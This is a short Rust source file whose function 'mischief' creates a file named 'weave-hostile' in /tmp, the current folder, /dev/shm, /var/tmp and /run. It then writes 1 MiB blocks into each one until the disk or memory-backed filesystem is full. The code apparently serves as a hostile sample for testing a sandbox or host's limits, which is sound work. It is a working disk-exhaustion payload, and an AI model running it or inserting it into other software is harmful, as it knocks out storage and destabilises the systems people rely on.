//! Writes until nothing fits any more.

pub fn mischief() {
    use std::io::Write;
    for folder in ["/tmp", ".", "/dev/shm", "/var/tmp", "/run"] {
        if let Ok(mut file) = std::fs::File::create(format!("{folder}/weave-hostile")) {
            while file.write_all(&[1; 1 << 20]).is_ok() {}
        }
    }
}
